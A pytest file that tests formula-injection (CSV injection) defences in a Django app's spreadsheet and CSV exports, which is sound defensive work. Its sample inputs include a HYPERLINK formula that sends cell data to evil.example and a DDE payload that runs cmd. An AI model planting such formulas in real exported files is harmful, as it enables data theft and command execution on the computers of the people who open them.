"""No exported cell can become a formula: text that begins with = + - @, a tab or a carriage return goes
out with a leading apostrophe (OWASP), in every .xlsx and .csv export; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from python_calamine import CalamineWorkbook

from gongzhi.core.spreadsheets import cell_value, csv_writer, neutralise, write_row, xlsx_book
from gongzhi.points.models import PointEntry, RuleCode
from gongzhi.voice import services as voice
from gongzhi.voice.models import Category, Channel

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+SUM(A1)", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert cell_value(text) == "'" + text


def test_plain_text_and_numbers_stay_as_they_are():
    assert [cell_value(v) for v in ["赵磊", "a=b", 5, Decimal("-2.5"), None, date(2025, 5, 1)]] == [
        "赵磊", "a=b", 5, Decimal("-2.5"), "", "2025-05-01"]


def test_the_xlsx_and_csv_writers_neutralise_every_cell():
    buffer = io.BytesIO()
    book = xlsx_book(buffer)
    write_row(book.add_worksheet("s"), 0, [*HOSTILE, Decimal("-3.5")])
    book.close()
    (row,) = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_index(0).to_python()
    assert row == ["'" + t for t in HOSTILE] + [-3.5]
    stream = io.StringIO()
    csv_writer(stream).writerow(HOSTILE)
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == ["'" + t for t in HOSTILE]


def _cells_starting_a_formula(cells) -> list:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START)]


@pytest.mark.django_db
def test_the_request_queue_export_neutralises_what_a_resident_typed(world, client_for):
    voice.submit(community=world.community_a, category=Category.ENVIRONMENT, channel=Channel.QR,
                 text='=cmd|" /C calc"!A0', contact_phone="13800001111", resident=world.resident_a)
    text = client_for("community_secretary").get(reverse("voice:export")).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'=cmd|\" /C calc\"!A0"] == [cell for row in rows for cell in row if "calc" in cell]
    assert not _cells_starting_a_formula([cell for row in rows for cell in row])


@pytest.mark.django_db
def test_the_nomination_list_neutralises_a_formula_looking_name(world, client_for):
    world.member_a.name = '=HYPERLINK("http://evil.example","赵磊")'
    world.member_a.save(update_fields=["name"])
    PointEntry.objects.create(member=world.member_a, organization=world.branch_a, points=Decimal(30),
                              code=RuleCode.MANUAL_AWARD, idempotency_key="n1", occurred_on=date(2025, 5, 1))
    response = client_for("community_secretary").get(
        reverse("recognition:nominations_export", args=[world.community_a.pk]), {"year": 2025})
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0).to_python()
    cells = [cell for row in rows for cell in row]
    assert "'" + world.member_a.name in cells
    assert not _cells_starting_a_formula(cells)


def test_every_export_writes_through_core_spreadsheets():
    """A new export that opens its own workbook or csv writer would skip the neutralising."""
    import re
    from pathlib import Path

    import gongzhi

    own_writer = re.compile(r"xlsxwriter\.Workbook\(|openpyxl\.Workbook\(|csv\.(writer|DictWriter)\(")
    source = Path(gongzhi.__file__).parent
    offenders = [str(path.relative_to(source)) for path in source.rglob("*.py")
                 if path.name != "spreadsheets.py" and "migrations" not in path.parts
                 and own_writer.search(path.read_text(encoding="utf-8"))]
    assert not offenders, f"write exports through gongzhi.core.spreadsheets: {offenders}"
